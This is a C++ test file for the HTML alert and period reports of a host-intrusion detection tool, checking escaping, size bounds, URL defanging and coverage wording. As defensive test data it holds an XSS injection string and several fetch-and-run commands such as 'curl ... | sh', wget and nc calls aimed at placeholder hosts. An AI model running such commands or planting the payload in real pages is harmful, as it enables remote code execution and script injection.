// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The tocsin authors
// Pages are read back by an HTML parser that is not ours.
#include "report/page.hpp"

#include <functional>

#include "cli/loudest_alerts.hpp"
#include "report/html.hpp"
#include "support/alert_fixture.hpp"
#include "support/html_reader.hpp"
#include "support/report_fixture.hpp"
#include "support/test.hpp"

using namespace tocsin;
using namespace tocsin::report;
using namespace tocsin::test;
using nlohmann::json;

namespace {

const PageFacts kFacts{.version = "1.2.3", .source = "a test"};

// Every text in the tree becomes the hostile one.
void spoil(json& value, const std::string& hostile) {
  if (value.is_string()) value = hostile;
  if (value.is_structured())
    for (auto& element : value) spoil(element, hostile);
}

bool says(const ReadPage& page, std::string_view text) {
  return page.text.find(text) != std::string::npos;
}

}  // namespace

TEST_CASE("a page holds the whole story and nothing that acts", "[report]") {
  const auto page = read_html(alert_page(beacon_material(), kFacts));
  CHECK(page.trouble.empty());
  CHECK(page.elements.at("svg") >= 4);
  CHECK(page.elements.at("figure") == 4);
  CHECK(page.policy.starts_with("default-src 'none'; style-src 'sha256-"));
  for (const auto* part : {"Verdict",
                           "/opt/3cx/app calls c2[.]example:443 every 5 min ± 8 %",
                           "alice",
                           "Time line",
                           "The program was changed",
                           "First contact",
                           "days later",
                           "From the login or service",
                           "sshd",
                           "The calls",
                           "Distance of two contacts",
                           "median",
                           "Contacts per hour",
                           "Bytes sent in each contact",
                           "no package owns the file",
                           "Around it",
                           "/usr/bin/curl",
                           "updates[.]example",
                           "What the sensor could not see",
                           "Nobody watched during 1 gap",
                           "What to do next",
                           "tocsin hunt 'c2[.]example'"}) {
    INFO(part);
    CHECK(says(page, part));
  }
  CHECK_FALSE(says(page, "c2.example"));
  CHECK(page.bytes < limits::kReportBytesMax / 3);
}

TEST_CASE("each drawing has a name and a description", "[report]") {
  const auto page = read_html(alert_page(beacon_material(), kFacts));
  CHECK(page.named_images == 4);
  CHECK(page.unnamed_images == 0);
}

TEST_CASE("every kind of alert has a page, and so has hindsight", "[report]") {
  for (const auto& facts : all_alert_kinds()) {
    const Material material{json::parse(sample_rendered(sample_alert(facts.kind))->json), nullptr,
                            1'764'080'000};
    const auto page = read_html(alert_page(material, kFacts));
    INFO(facts.code);
    CHECK(page.trouble.empty());
    CHECK(says(page, "Verdict"));
    CHECK(says(page, "Made by tocsin 1.2.3"));
    CHECK_FALSE((says(page, "http:") || says(page, "https:")));
  }
}

TEST_CASE("hostile texts stay texts", "[report]") {
  const std::string hostile =
      "\"'><script>alert(1)</script><img src=x onerror=alert(1)></style></svg>&lt;\x1b[2J\n\r\t"
      "\xe2\x80\xae"
      "evil\xff<!--]]>";
  auto material = beacon_material();
  spoil(material.alert, hostile);
  spoil(material.around, hostile);
  const auto page = read_html(alert_page(material, {hostile, hostile}));
  CHECK(page.trouble.empty());
  CHECK(says(page, "<script>alert(1)</script>"));
  CHECK(says(page, "\\x1b[2J\\x0a\\x0d\\x09\\u{202e}evil\\xff"));

  Period period{.alerts = {material.alert, json::object()},
                .beacons = {material.alert["tocsin"]["beacon"]},
                .coverage = material.around["coverage"]};
  CHECK(read_html(period_page(period, {hostile, hostile})).trouble.empty());
}

TEST_CASE("a page of a period counts and sorts", "[report]") {
  Period period{.since_s = 1'764'000'000, .now_s = 1'764'080'000};
  CHECK(says(read_html(period_page(period, kFacts)), "Nothing was raised"));
  CHECK(says(read_html(period_page(period, kFacts)), "a host whose name is not known"));
  period.host = "quiet-1";
  period.state_dir = "case";
  CHECK(says(read_html(period_page(period, kFacts)), "host quiet-1"));
  CHECK(says(read_html(period_page(period, kFacts)),
             "tocsin hunt --file advisory.html --state-dir case"));
  for (const auto& facts : all_alert_kinds())
    period.alerts.push_back(json::parse(sample_rendered(sample_alert(facts.kind))->json));
  period.coverage = json::object();
  const auto page = read_html(period_page(period, kFacts));
  CHECK(page.trouble.empty());
  CHECK(says(page, std::to_string(period.alerts.size()) + " alerts"));
  CHECK(says(page, "01KAXYZ0000000000000000000"));
}

TEST_CASE("a page has a bound, whatever it is made of", "[report]") {
  const std::string longest(3'000, '"');
  auto material = beacon_material();
  json many = json::array();
  for (int i = 0; i < 60; ++i) many.push_back({{"path", longest}, {"what", longest}});
  for (const auto* list : {"lineage", "modules", "names", "indicator", "flags"})
    material.alert["tocsin"][list] = many;
  for (auto& process : material.alert["tocsin"]["lineage"])
    process["args"] = {longest, longest, longest};
  for (const auto* list : {"destinations", "programs", "versions"}) material.around[list] = many;
  spoil(material.alert, longest);
  const auto page = alert_page(material, {longest, longest});
  CHECK(page.size() < limits::kReportBytesMax);
  CHECK(read_html(page).trouble.empty());

  auto small = beacon_material();
  spoil(small.alert, longest);
  Period period{.alerts = std::vector<json>(500, small.alert),
                .beacons = std::vector<json>(500, small.alert["tocsin"]["beacon"]),
                .coverage = small.around["coverage"]};
  const auto all = period_page(period, {longest, longest});
  CHECK(all.size() < limits::kReportBytesMax);
  CHECK(read_html(all).trouble.empty());
}

TEST_CASE("escaped text comes back as it went in, made visible", "[report]") {
  for (const auto* text :
       {"a<b>&\"'c", "&amp;&#39;", "</p><p>", "]]>", "x\ty", "\xf0\x9f\x92\x80"}) {
    Html html;
    html.open("html").open("body").leaf("p", {{"title", text}}, text).close().close();
    const auto page = read_html(html.take());
    INFO(text);
    CHECK(page.elements.at("p") == 1);
    CHECK(says(page, printable(text)));
    CHECK(page.titles == std::vector<std::string>{printable(text)});
  }
  CHECK(defanged("c2.example") == "c2[.]example");
}

TEST_CASE("a page says which login and container it was, and what was done", "[report]") {
  auto alert = sample_alert(AlertKind::kModuleHash);
  alert.response = ResponseFacts{.rule = "severity critical", .detail = {}};
  const auto page =
      read_html(alert_page({json::parse(sample_rendered(alert)->json), nullptr, 0}, kFacts));
  for (const auto* part : {"logged in", "alice from 198.51.100.9 port 50122", "sudo(900)", "web",
                           "registry.example/web:1.2", "web-7d4b", "What tocsin did",
                           "It was refused, by the rule for severity critical", "UTC",
                           "was refused the library /opt/app/libffmpeg.so"}) {
    INFO(part);
    CHECK(says(page, part));
  }
}

TEST_CASE("who else went somewhere is no question without a somewhere", "[report]") {
  auto material = beacon_material();
  material.around["programs"] = json::array();
  CHECK(says(read_html(alert_page(material, kFacts)), "None that the history knows"));
  material.around["programs_searched"] = false;
  CHECK_FALSE(says(read_html(alert_page(material, kFacts)), "Other programs at this destination"));
}

TEST_CASE("a period of which nothing is kept is not a quiet one", "[report]") {
  Period period{.since_s = 1'764'000'000, .now_s = 1'764'080'000};
  const auto text = [&](json coverage) {
    period.coverage = std::move(coverage);
    return read_html(period_page(period, kFacts));
  };
  const double from = 1'764'000'000, kept = from + 7'200 * 10;
  CHECK(says(text({{"asked_from", from}, {"kept_from", from - 5}, {"runs", 1}}),
             "Nothing is known to be missing"));
  const auto early = text({{"asked_from", from}, {"kept_from", kept}, {"runs", 1}, {"dropped", 7}});
  CHECK_FALSE(says(early, "Nothing is known to be missing"));
  CHECK(says(early, "Nothing is kept from before"));
  CHECK(says(early, "20 h of the period are not known"));
  CHECK(says(early, "7 older sightings went for room"));
  CHECK(says(text({{"asked_from", from}, {"runs", 0}}), "Nothing was ever recorded here"));
  CHECK(says(text({{"asked_from", from}, {"kept_from", from - 5}, {"runs", 0}}),
             "Nobody watched in the whole period"));
}

TEST_CASE("alerts that a page has no room for are counted by their severity", "[report]") {
  cli::LoudestAlerts loudest(3);
  int number = 0;
  for (const auto* severity : {"critical", "low", "info", "high", "low", "low"})
    loudest.add({{"tocsin", {{"severity", severity}, {"time", ++number}}}});
  auto raised = loudest.take();
  REQUIRE(raised.kept.size() == 3);
  CHECK(raised.kept[0]["tocsin"]["severity"] == "critical");
  CHECK(raised.kept[1]["tocsin"]["severity"] == "high");
  CHECK(raised.kept[2]["tocsin"]["time"] == 6);  // of those as loud the latest
  CHECK(raised.left_out == std::map<std::string, std::uint64_t>{{"info", 1}, {"low", 2}});
  Period period{.alerts = raised.kept, .left_out = raised.left_out};
  const auto page = read_html(period_page(period, kFacts));
  CHECK(says(page, "6 alerts: 1 critical, 1 high, 3 low, 1 info."));
  CHECK(says(page, "and 3 more"));
}

TEST_CASE("URLs in what ran do not become links", "[report]") {
  CHECK(unlinked("curl -s https://a.b.example:8443/x.sh?y=1.2 | sh") ==
        "curl -s hxxps://a[.]b[.]example:8443/x.sh?y=1.2 | sh");
  CHECK(unlinked("HTTP://192.0.2.7;x.sh http://u.v@c2.example'") ==
        "HxxP://192[.]0[.]2[.]7;x.sh hxxp://u[.]v@c2[.]example'");
  CHECK(unlinked("http://c2[.]example/") == "hxxp://c2[.]example/");  // once is enough
  for (const auto* same :
       {"", "http", "https:/a.b", "cat http.conf a.b/c", "hxxp://a[.]b", "http:"})
    CHECK(unlinked(same) == same);

  auto material = beacon_material();
  material.alert["process"]["args"] = {"sh", "-c", "curl http://one.example/a.sh"};
  material.alert["tocsin"]["lineage"][1]["args"] = {"wget", "https://two.example/b.sh"};
  material.alert["tocsin"]["incident"] = {
      {"steps",
       {{{"ts", 1'764'000'100}, {"what", "shell"}, {"command", "nc http://three.example/"}}}}};
  material.alert["tocsin"]["beacon"]["subject"]["path"] = "python3 -c get('http://four.example/')";
  const auto page = read_html(alert_page(material, kFacts));
  for (const auto* part :
       {"curl hxxp://one[.]example/a.sh", "wget hxxps://two[.]example/b.sh",
        "nc hxxp://three[.]example/", "python3 -c get('hxxp://four[.]example/') calls"}) {
    INFO(part);
    CHECK(says(page, part));
  }
  CHECK_FALSE(says(page, "http://"));
  CHECK_FALSE(says(page, "https://"));
  // Commands to copy stay as they are.
  CHECK(says(page, "tocsin report 01KAXYZ0000000000000000000 -o report.html"));
}

TEST_CASE("message, verdict and table say the same share", "[report]") {
  auto material = beacon_material();
  material.alert["tocsin"]["beacon"]["probability"] = 0.9976;
  const auto page = read_html(alert_page(material, kFacts));
  CHECK(says(page, "99 % likely, by evidence"));
  CHECK(says(page, "Together 99 % likely"));
  CHECK_FALSE(says(page, "100 % likely"));
  const Period period{.beacons = {material.alert["tocsin"]["beacon"]}, .now_s = 1'764'080'000};
  CHECK_FALSE(says(read_html(period_page(period, kFacts)), "100 %"));
}
